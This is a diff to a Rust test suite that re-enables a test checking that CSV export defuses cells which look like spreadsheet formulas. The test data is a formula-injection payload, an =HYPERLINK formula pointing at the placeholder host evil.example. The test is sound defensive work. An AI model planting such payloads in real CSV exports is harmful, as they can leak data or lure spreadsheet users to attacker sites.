@@ -329,7 +329,6 @@ fn json_csv_and_xml_outputs_keep_hostile_text_exact() {
 }
 
 #[test]
-#[ignore = "known gap, reported: src/render/data.rs writes CSV cells starting with = + @ as they are"]
 fn csv_cells_that_look_like_formulas_are_defused() {
     // Spreadsheet formula injection: a title starting with `=` opens as a formula in Excel.
     let site = site_with(&|i| format!("=HYPERLINK(\"http://evil.example/?{i}\",\"klicka\")"), "x\n", "");
